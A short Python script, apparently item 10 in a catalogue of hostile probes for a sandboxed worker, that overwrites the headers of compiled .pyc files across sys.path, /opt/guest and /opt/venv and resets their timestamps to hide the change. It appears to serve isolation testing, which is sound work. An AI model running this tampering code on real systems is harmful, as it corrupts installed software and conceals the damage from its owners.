"""Catalogue: 10. Overwrites compiled files of the worker and of numpy, and their times."""
import glob
import os
import sys

for folder in [*sys.path, "/opt/guest", "/opt/venv"]:
    for path in glob.glob(os.path.join(folder or ".", "**", "*.pyc"), recursive=True)[:200]:
        try:
            with open(path, "r+b") as file:
                file.write(b"\0" * 16)
            os.utime(path, (0, 0))
            print("poisoned", path)
        except OSError:
            pass
